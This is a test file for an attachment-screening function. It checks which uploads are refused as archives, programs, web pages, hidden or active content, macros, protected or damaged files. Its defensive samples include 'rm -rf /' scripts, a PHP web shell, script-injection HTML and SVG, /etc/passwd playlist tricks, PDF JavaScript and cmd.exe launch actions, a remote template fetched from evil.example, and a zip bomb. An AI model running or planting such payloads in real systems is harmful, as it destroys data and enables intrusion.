// The table of what is refused, and why. Each file is made to be taken by a careless reader.

import { gzipSync } from 'node:zlib';
import { beforeAll, describe, expect, it } from 'vitest';
import type { AttachmentKind } from '../../../../src/domain/attachment.ts';
import type { Refusal } from '../../../../src/domain/attachment-problem.ts';
import { odfParts, ooxmlParts, pdfOf, zipOf } from '../../../../tests/fixtures/attachments/documents.ts';
import { HEIC } from '../../../../tests/fixtures/attachments/heic.ts';
import { IMAGE_FORMATS, taggedImage } from '../../../../tests/fixtures/attachments/images.ts';
import { REFUSED_FORMS } from '../../../../tests/fixtures/attachments/refused-forms.ts';
import { inspect } from './inspect.ts';

const text = (content: string): Buffer => Buffer.from(content);
const latin1 = (content: string): Buffer => Buffer.from(content, 'latin1');
const then = (...parts: (Buffer | string)[]): Buffer => Buffer.concat(parts.map((part) => Buffer.from(part)));
const replaced = (bytes: Buffer, from: string, to: string): Buffer =>
  latin1(bytes.toString('latin1').replace(from, () => to));

const zip = zipOf({ 'a.exe': 'MZ' });
const docx = zipOf(ooxmlParts('docx'));
const pdf = pdfOf();
/** A WebM by its first bytes: what follows is ffmpeg's to judge. */
const webm = then(
  latin1(
    '\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08\x42\x82\x84webm',
  ),
  Buffer.alloc(64),
);
const mp4 = then(
  latin1('\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2'),
  latin1('\0\0\0\x40mdat'),
  Buffer.alloc(56),
);

let jpeg: Buffer;
let png: Buffer;
beforeAll(async () => {
  jpeg = await taggedImage('jpeg');
  png = await taggedImage('png');
});

type Row = readonly [what: string, kind: AttachmentKind, bytes: () => Buffer, problem: Refusal];

const macroDocx = zipOf({ ...ooxmlParts('docx'), 'word/vbaProject.bin': 'x' });
const external = (type: string): Buffer =>
  zipOf({
    ...ooxmlParts('docx'),
    'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="r" Type="http://x/${type}" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
  });
/** Says 10 bytes, unpacks to 50 million. */
function bomb(): Buffer {
  const packed = zipOf({ ...ooxmlParts('docx'), 'word/bomb.xml': Buffer.alloc(50_000_000) });
  const size = Buffer.alloc(4);
  size.writeUInt32LE(50_000_000);
  const small = Buffer.alloc(4);
  small.writeUInt32LE(10);
  return latin1(packed.toString('latin1').replaceAll(size.toString('latin1'), small.toString('latin1')));
}

const REFUSED: readonly Row[] = [
  // Which a phone tells before it sends them (src/media/file-content.ts).
  ...REFUSED_FORMS.map(([form, signs]): Row => [form, 'video', () => latin1(signs), 'type-not-accepted']),
  ...REFUSED_FORMS.map(([form, signs]): Row => [form, 'audio', () => latin1(signs), 'type-not-accepted']),
  ['nothing', 'photo', () => Buffer.alloc(0), 'empty'],
  ['a ZIP', 'document', () => zip, 'archive'],
  ['a ZIP that is called a photo', 'photo', () => zip, 'archive'],
  ['a RAR', 'document', () => latin1('Rar!\x1a\x07\x01\x00aaaaaaaaaa'), 'archive'],
  ['a 7z', 'document', () => latin1('7z\xbc\xaf\x27\x1c\x00\x04aaaaaaaa'), 'archive'],
  ['a gzip', 'audio', () => gzipSync('x'.repeat(100)), 'archive'],
  [
    'a tar',
    'document',
    () => then('a.txt', Buffer.alloc(252), latin1('ustar\x0000'), Buffer.alloc(300)),
    'archive',
  ],
  ['an APK or JAR', 'document', () => zipOf({ 'META-INF/MANIFEST.MF': 'x', 'classes.dex': 'y' }), 'archive'],
  ['a Windows program', 'document', () => then('MZ', Buffer.alloc(200)), 'program'],
  ['a Linux program', 'photo', () => latin1(`\x7fELF\x02\x01\x01${'\0'.repeat(100)}`), 'program'],
  ['a shell script', 'document', () => text('#!/bin/sh\nrm -rf /\n'), 'program'],
  ['a script for a program with the name of speech', 'audio', () => text('#!AMR/sh\nrm -rf /\n'), 'program'],
  ['a PHP script', 'photo', () => text('<?php system($_GET[0]); ?>'), 'program'],
  ['a Windows batch file', 'document', () => text('\r\n@echo off\r\ndel *.*'), 'program'],
  ['a page of HTML', 'document', () => text('<!DOCTYPE html><script>alert(1)</script>'), 'web-page'],
  ['a page of HTML behind a comment', 'document', () => text('\uFEFF <!-- x --> <HTML>'), 'web-page'],
  [
    'a page of HTML in UTF-16',
    'document',
    () => then(latin1('\xff\xfe'), Buffer.from('<html>', 'utf16le')),
    'web-page',
  ],
  ['an SVG', 'photo', () => text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'web-page'],
  ['an SVG behind an XML head', 'photo', () => text('<?xml version="1.0"?>\n<svg/>'), 'web-page'],
  ['a text', 'document', () => text('Sayın yetkili, merhaba'), 'type-not-accepted'],
  ['a play list', 'video', () => text('#EXTM3U\nfile:///etc/passwd\n'), 'type-not-accepted'],
  ['a list for ffmpeg', 'audio', () => text("ffconcat version 1.0\nfile '/etc/passwd'"), 'type-not-accepted'],
  [
    'an old office document',
    'document',
    () => latin1(`\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${'\0'.repeat(600)}`),
    'type-not-accepted',
  ],
  ['a PostScript file', 'document', () => text('%!PS-Adobe-3.0\n'), 'type-not-accepted'],
  ['noise', 'photo', () => latin1('\x01\x02\x03\x04\x05\x06\x07\x08'), 'type-not-accepted'],
  ['a photo that is called a document', 'document', () => jpeg, 'type-differs'],
  ['a document that is called a photo', 'photo', () => pdf, 'type-differs'],
  ['a film that is called a photo', 'photo', () => mp4, 'type-differs'],
  ['a photo that is called sign language', 'sign-video', () => png, 'type-differs'],

  ['a photo with a ZIP behind it', 'photo', () => then(jpeg, zip), 'hidden-content'],
  ['a photo with a cut-off ZIP behind it', 'photo', () => then(jpeg, zip.subarray(0, 40)), 'hidden-content'],
  [
    'a photo with a RAR behind it',
    'photo',
    () => then(jpeg, latin1('Rar!\x1a\x07\x00xxxx')),
    'hidden-content',
  ],
  ['a photo with a gzip behind it', 'photo', () => then(png, gzipSync('secret')), 'hidden-content'],
  ['a photo with a program behind it', 'photo', () => then(png, 'MZ\x90'), 'hidden-content'],
  [
    'a photo with PHP in its comment',
    'photo',
    () => replaced(jpeg, 'KOPRU-AUTHOR-3A', '<?php echo 1;?>'),
    'hidden-content',
  ],
  [
    'a photo with a web page behind it',
    'photo',
    () => then(jpeg, '<html><script>x</script>'),
    'hidden-content',
  ],
  [
    'a photo with a PDF in it',
    'photo',
    () => replaced(jpeg, 'KOPRU-DEVICE-7F', '%PDF-1.7 xxxxxx'),
    'hidden-content',
  ],
  [
    'a GIF that is JavaScript and a web page',
    'photo',
    () => latin1('GIF89a/*\x01\x00\x80\x00\x00*/=1;<script src=x></script>'),
    'hidden-content',
  ],
  ['a PDF with a ZIP behind it', 'document', () => then(pdf, zip), 'hidden-content'],
  [
    'a PDF with a ZIP in it',
    'document',
    () => replaced(pdf, '<</Type/Pages', `${zip.toString('latin1')}<</Type/Pages`),
    'hidden-content',
  ],
  [
    'a PDF that is a web page',
    'document',
    () => replaced(pdf, '\n1 0 obj', '\n<script>alert(1)</script>\n1 0 obj'),
    'hidden-content',
  ],
  ['a film with a ZIP behind it', 'video', () => then(mp4, zip), 'hidden-content'],
  [
    'a recording that is a web page',
    'voice',
    () => then(webm, '<script>alert(1)</script>'),
    'hidden-content',
  ],

  [
    'a PDF with JavaScript',
    'document',
    () => pdfOf({ catalogue: '/OpenAction<</S/JavaScript/JS(app.alert(1))>>' }),
    'active-content',
  ],
  [
    'a PDF with JavaScript in other letters',
    'document',
    () => pdfOf({ catalogue: '/OpenAction<</S/J#61vaScript>>' }),
    'active-content',
  ],
  [
    'a PDF with JavaScript in a packed object',
    'document',
    () => pdfOf({ packedObject: '<</S/JavaScript/JS(x)>>' }),
    'active-content',
  ],
  [
    'a PDF that starts a program',
    'document',
    () => pdfOf({ catalogue: '/OpenAction<</S/Launch/F(cmd.exe)>>' }),
    'active-content',
  ],
  ['a photo as iPhones keep it, which nothing here can draw', 'photo', () => HEIC, 'type-not-accepted'],
  ['a PDF that is cut off', 'document', () => pdf.subarray(0, 60), 'damaged'],
  [
    'a PDF whose packed objects cannot be unpacked',
    'document',
    () => replaced(pdfOf({ packedObject: '<</A 1>>' }), '\nstream\n', '\nstream\nxx'),
    'damaged',
  ],

  ['a document with macros', 'document', () => macroDocx, 'macros'],
  [
    'a document of a type with macros',
    'document',
    () => zipOf(ooxmlParts('docx', 'application/vnd.ms-word.document.macroEnabled.main+xml')),
    'macros',
  ],
  [
    'an OpenDocument with macros',
    'document',
    () => zipOf({ ...odfParts('text'), 'Basic/Standard/Module1.xml': 'x' }),
    'macros',
  ],
  [
    'a document with a program in it',
    'document',
    () => zipOf({ ...ooxmlParts('docx'), 'word/embeddings/a.exe': 'MZ' }),
    'program',
  ],
  ['a document that fetches its template', 'document', () => external('attachedTemplate'), 'active-content'],
  ['a document that fetches a picture', 'document', () => external('image'), 'active-content'],
  [
    'an OpenDocument with a password',
    'document',
    () => zipOf({ ...odfParts('text'), 'META-INF/manifest.xml': '<manifest:encryption-data/>' }),
    'protected',
  ],
  [
    'an office document with a password',
    'document',
    () =>
      then(
        latin1('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'),
        Buffer.alloc(600),
        Buffer.from('EncryptedPackage', 'utf16le'),
      ),
    'protected',
  ],
  [
    'a document with something before it',
    'document',
    () => then(docx.subarray(0, 4), 'xxxx', docx.subarray(4)),
    'damaged',
  ],
  ['a document with something behind it', 'document', () => then(docx, 'xxxx'), 'damaged'],
  ['a document with something between', 'document', () => betweenEntries(docx), 'damaged'],
  ['a document whose content is not what its checksum says', 'document', () => flipped(docx, 90), 'damaged'],
  ['a document that unpacks to more than it says', 'document', bomb, 'damaged'],
  [
    'a document that is two archives',
    'document',
    () => then(docx.subarray(0, docx.indexOf('PK\x01\x02')), docx),
    'damaged',
  ],
];

function flipped(bytes: Buffer, at: number): Buffer {
  const copy = Buffer.from(bytes);
  copy[at] = (copy[at] ?? 0) ^ 0xff;
  return copy;
}

/** 64 bytes before the directory, whose place is corrected. */
function betweenEntries(bytes: Buffer): Buffer {
  const at = bytes.indexOf('PK\x01\x02');
  const made = then(bytes.subarray(0, at), Buffer.alloc(64, 'x'), bytes.subarray(at));
  made.writeUInt32LE(at + 64, made.length - 6);
  return made;
}

describe('is refused', () => {
  it.each(REFUSED)('%s', async (_, kind, bytes, problem) => {
    expect(await inspect(bytes(), kind)).toEqual({ ok: false, problem });
  });
});

describe('is taken', () => {
  it.each(IMAGE_FORMATS)('a photo in %s', async (format) => {
    const mediaType = `image/${format}`;
    expect(await inspect(await taggedImage(format), 'photo')).toEqual({
      ok: true,
      mediaType,
      family: 'image',
    });
  });

  it.each(['docx', 'xlsx', 'pptx'] as const)('a document in %s', async (format) => {
    expect(await inspect(zipOf(ooxmlParts(format)), 'document')).toMatchObject({
      ok: true,
      family: 'document',
    });
  });

  it.each(['text', 'spreadsheet', 'presentation'] as const)('an OpenDocument %s', async (format) => {
    expect(await inspect(zipOf(odfParts(format)), 'document')).toMatchObject({
      mediaType: `application/vnd.oasis.opendocument.${format}`,
    });
  });

  it('a document with links that are opened by a click', async () => {
    expect(await inspect(external('hyperlink'), 'document')).toMatchObject({ ok: true });
  });

  it('a PDF, also with packed objects', async () => {
    expect(await inspect(pdf, 'document')).toMatchObject({ ok: true, mediaType: 'application/pdf' });
    expect(await inspect(pdfOf({ packedObject: '<</Type/Font/JSON 1>>' }), 'document')).toMatchObject({
      ok: true,
    });
  });

  it.each(['#!AMR\n', '#!AMR-WB\n'])(
    'the speech of a telephone, which begins as scripts do: %j',
    async (head) => {
      const bytes = then(head, Buffer.alloc(64, 0x3c));
      expect(await inspect(bytes, 'audio')).toEqual({ ok: true, mediaType: 'audio/amr', family: 'audio' });
    },
  );

  it('a recording of sound in a container for films', async () => {
    expect(await inspect(webm, 'voice')).toEqual({ ok: true, mediaType: 'video/webm', family: 'video' });
    expect(await inspect(mp4, 'voice')).toEqual({ ok: true, mediaType: 'video/mp4', family: 'video' });
  });
});
